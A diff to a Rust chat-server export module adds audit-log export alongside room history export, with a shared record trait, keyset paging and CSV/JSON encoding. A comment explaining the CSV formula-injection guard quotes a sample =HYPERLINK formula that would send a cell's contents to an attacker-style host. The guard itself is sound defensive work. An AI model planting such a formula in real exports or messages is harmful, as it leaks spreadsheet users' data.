@@ -1,7 +1,8 @@
-//! `export_room`: a room's whole history, streamed into the database in keyset pages.
+//! Exports: `export_room` (a room's whole history) and `export_audit` (the audit rows
+//! matching a filter), streamed into the database in keyset pages.
 //!
-//! The extent (message count and newest id) is fixed when the export starts, so messages
-//! sent meanwhile neither appear nor move the percentage. Pages of [`PAGE`] rows are read
+//! The extent (row count and newest id) is fixed when the export starts, so rows written
+//! meanwhile neither appear nor move the percentage. Pages of [`PAGE`] rows are read
 //! by id (`id > last AND id <= newest`), so no row is read twice or skipped, memory holds
 //! one page, and the database sees short independent reads: WAL readers never block the
 //! chat writer. Each page is encoded into one buffer; full [`exports::CHUNK`]s are stored
@@ -9,18 +10,106 @@
 //! job is marked done only after the last chunk is stored; an export that fails has its
 //! chunks deleted.
 
+use confab_shared::moderation::AuditEntry;
 use confab_shared::{ExportFormat, Message};
+use serde::Serialize;
 use tokio_util::sync::CancellationToken;
 
 use super::runner::Progress;
 use crate::layer::ChannelLayer;
 use crate::storage::entity::jobs as job_entity;
+use crate::storage::moderation::{self as audit_log, AuditFilter};
 use crate::storage::{Db, exports, jobs, messages, rooms};
 
 /// Rows per page.
 const PAGE: u64 = 1000;
-/// The CSV columns, in order.
-const CSV_HEADER: [&str; 7] = ["id", "room", "author", "text", "sent_at", "edited_at", "deleted"];
+
+/// A row of an export file: one element of the JSON array, one CSV record.
+trait Record: Serialize {
+    /// The CSV columns, in order.
+    const CSV_HEADER: &'static [&'static str];
+    /// The row's CSV cells, in the header's order.
+    fn cells(&self) -> Vec<String>;
+}
+
+impl Record for Message {
+    const CSV_HEADER: &'static [&'static str] = &["id", "room", "author", "text", "sent_at", "edited_at", "deleted"];
+
+    fn cells(&self) -> Vec<String> {
+        let edited = self.edited_at.map(|t| t.to_string()).unwrap_or_default();
+        vec![self.id.to_string(), self.room.clone(), self.author.clone(), self.text.clone(), self.sent_at.to_string(), edited, self.deleted.to_string()]
+    }
+}
+
+impl Record for AuditEntry {
+    const CSV_HEADER: &'static [&'static str] = &["id", "at", "actor", "action", "target", "room", "reason", "detail", "instance"];
+
+    fn cells(&self) -> Vec<String> {
+        let text = |v: &Option<String>| v.clone().unwrap_or_default();
+        vec![
+            self.id.to_string(),
+            self.at.to_string(),
+            self.actor.clone(),
+            self.action.as_str().to_owned(),
+            text(&self.target),
+            text(&self.room),
+            text(&self.reason),
+            text(&self.detail),
+            self.instance.clone(),
+        ]
+    }
+}
+
+/// What an export reads: pages in id order up to the newest row when it started.
+enum Source {
+    Room(i64),
+    Audit(AuditFilter),
+}
+
+impl Source {
+    fn of(job: &job_entity::Model) -> Result<Self, ExportError> {
+        Ok(if job.kind == jobs::EXPORT_AUDIT { Self::Audit(jobs::audit_filter_of(job)?) } else { Self::Room(0) })
+    }
+
+    /// How many rows there are to export and the newest one's id.
+    async fn extent(&mut self, db: &Db, job: &job_entity::Model) -> Result<(u64, i64), ExportError> {
+        match self {
+            Self::Room(id) => {
+                let room = rooms::by_name(db, &job.room).await?.ok_or_else(|| ExportError::Failed(anyhow::anyhow!("room {} is gone", job.room)))?;
+                *id = room.id;
+                Ok(messages::extent(db, room.id).await?)
+            }
+            Self::Audit(filter) => Ok(audit_log::audit_extent(db, filter).await?),
+        }
+    }
+
+    fn header(&self, encoder: &Encoder) -> Result<Vec<u8>, ExportError> {
+        match self {
+            Self::Room(_) => encoder.start::<Message>(),
+            Self::Audit(_) => encoder.start::<AuditEntry>(),
+        }
+    }
+
+    /// The page after `after`, encoded: its last id, its row count and its bytes (`None` past the end).
+    async fn page(&self, db: &Db, after: i64, newest: i64, encoder: &mut Encoder) -> Result<Option<(i64, u64, Vec<u8>)>, ExportError> {
+        match self {
+            Self::Room(room_id) => {
+                let page = messages::page_through(db, *room_id, after, newest, PAGE).await?;
+                let Some(last) = page.last().map(|m| m.id) else { return Ok(None) };
+                let rows = page.len() as u64;
+                let wire = messages::to_wire(db, page).await?;
+                Ok(Some((last, rows, encoder.page(&wire)?)))
+            }
+            Self::Audit(filter) => {
+                let page = audit_log::audit_through(db, filter, after, newest, PAGE).await?;
+                let Some(last) = page.last().map(|r| r.id) else { return Ok(None) };
+                let rows = page.len() as u64;
+                let wire: Vec<AuditEntry> = page.into_iter().map(AuditEntry::from).collect();
+                Ok(Some((last, rows, encoder.page(&wire)?)))
+            }
+        }
+    }
+}
 
 /// How an export ended without a file.
 #[derive(Debug)]
@@ -114,25 +203,23 @@ impl<'a> ChunkWriter<'a> {
 
 async fn write(db: &Db, layer: &dyn ChannelLayer, job: &job_entity::Model, stop: &CancellationToken) -> Result<(), ExportError> {
     let format = jobs::format_of(job);
-    let room = rooms::by_name(db, &job.room).await?.ok_or_else(|| ExportError::Failed(anyhow::anyhow!("room {} is gone", job.room)))?;
-    let (total, newest) = messages::extent(db, room.id).await?;
+    let mut source = Source::of(job)?;
+    let (total, newest) = source.extent(db, job).await?;
     let mut out = ChunkWriter::new(db, job.id);
     let mut progress = Progress::new(job.id, job.owner_id, total);
     let mut encoder = Encoder::new(&format);
-    out.write(&encoder.start()?).await?;
+    out.write(&source.header(&encoder)?).await?;
     let mut after = 0;
     loop {
         // Stop between pages, or during a slow read, but never mid-page: the chunks are discarded anyway.
         let page = tokio::select! {
             biased;
             () = stop.cancelled() => return Err(ExportError::Interrupted),
-            page = messages::page_through(db, room.id, after, newest, PAGE) => page?,
+            page = source.page(db, after, newest, &mut encoder) => page?,
         };
-        let Some(last) = page.last() else { break };
-        after = last.id;
-        let rows = page.len() as u64;
-        let wire = messages::to_wire(db, page).await?;
-        out.write(&encoder.page(&wire)?).await?;
+        let Some((last, rows, bytes)) = page else { break };
+        after = last;
+        out.write(&bytes).await?;
         progress.advance(db, layer, rows).await?;
     }
     out.write(encoder.end()).await?;
@@ -140,7 +227,7 @@ async fn write(db: &Db, layer: &dyn ChannelLayer, job: &job_entity::Model, stop:
     out.finish().await
 }
 
-/// Encodes pages of messages as a JSON array or as CSV with a header.
+/// Encodes pages of rows as a JSON array or as CSV with a header.
 struct Encoder {
     csv: bool,
     first: bool,
@@ -151,30 +238,29 @@ impl Encoder {
         Self { csv: matches!(format, ExportFormat::Csv), first: true }
     }
 
-    fn start(&self) -> Result<Vec<u8>, ExportError> {
+    fn start<R: Record>(&self) -> Result<Vec<u8>, ExportError> {
         if !self.csv {
             return Ok(b"[".to_vec());
         }
         let mut csv = csv::Writer::from_writer(Vec::new());
-        csv.write_record(CSV_HEADER).map_err(|e| ExportError::Failed(e.into()))?;
+        csv.write_record(R::CSV_HEADER).map_err(|e| ExportError::Failed(e.into()))?;
         csv.into_inner().map_err(|e| ExportError::Failed(anyhow::anyhow!("{e}")))
     }
 
-    fn page(&mut self, page: &[Message]) -> Result<Vec<u8>, ExportError> {
+    fn page<R: Record>(&mut self, page: &[R]) -> Result<Vec<u8>, ExportError> {
         if self.csv {
             let mut csv = csv::Writer::from_writer(Vec::with_capacity(page.len() * 128));
-            for m in page {
-                let edited = m.edited_at.map(|t| t.to_string()).unwrap_or_default();
-                let record = [&m.id.to_string(), &m.room, &m.author, &m.text, &m.sent_at.to_string(), &edited, &m.deleted.to_string()];
-                csv.write_record(record.map(|cell| inert_cell(cell)).iter().map(|cell| cell.as_bytes())).map_err(|e| ExportError::Failed(e.into()))?;
+            for row in page {
+                let cells = row.cells();
+                csv.write_record(cells.iter().map(|cell| inert_cell(cell).into_owned())).map_err(|e| ExportError::Failed(e.into()))?;
             }
             return csv.into_inner().map_err(|e| ExportError::Failed(anyhow::anyhow!("{e}")));
         }
         let mut buf = Vec::with_capacity(page.len() * 160);
-        for m in page {
+        for row in page {
             buf.extend_from_slice(if self.first { b"\n" } else { b",\n" });
             self.first = false;
-            serde_json::to_writer(&mut buf, m).map_err(|e| ExportError::Failed(e.into()))?;
+            serde_json::to_writer(&mut buf, row).map_err(|e| ExportError::Failed(e.into()))?;
         }
         Ok(buf)
     }
@@ -192,7 +278,7 @@ impl Encoder {
 /// rule): one starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
 /// `'`, which spreadsheets hide and which stops them reading a formula. A message text of
 /// `=HYPERLINK("https://evil.example?"&A1, "click")` would otherwise become a live formula
-/// in the reader's spreadsheet. Only text cells can start so (ids and times never do).
+/// in the reader's spreadsheet. Ids and times never start so; every cell goes through it.
 fn inert_cell(cell: &str) -> std::borrow::Cow<'_, str> {
     if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
         std::borrow::Cow::Owned(format!("'{cell}"))
@@ -224,7 +310,7 @@ mod tests {
 
     fn encode(format: ExportFormat, pages: &[&[Message]]) -> String {
         let mut encoder = Encoder::new(&format);
-        let mut out = encoder.start().unwrap();
+        let mut out = encoder.start::<Message>().unwrap();
         for page in pages {
             out.extend(encoder.page(page).unwrap());
         }
@@ -245,7 +331,7 @@ mod tests {
     fn csv_quotes_commas_quotes_and_newlines() {
         let text = encode(ExportFormat::Csv, &[&[message(1, "plain"), message(2, "a, \"b\"\nc")]]);
         let mut reader = csv::Reader::from_reader(text.as_bytes());
-        assert_eq!(reader.headers().unwrap().iter().collect::<Vec<_>>(), CSV_HEADER);
+        assert_eq!(reader.headers().unwrap().iter().collect::<Vec<_>>(), Message::CSV_HEADER);
         let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
         assert_eq!(rows.len(), 2);
         assert_eq!(&rows[1][3], "a, \"b\"\nc");
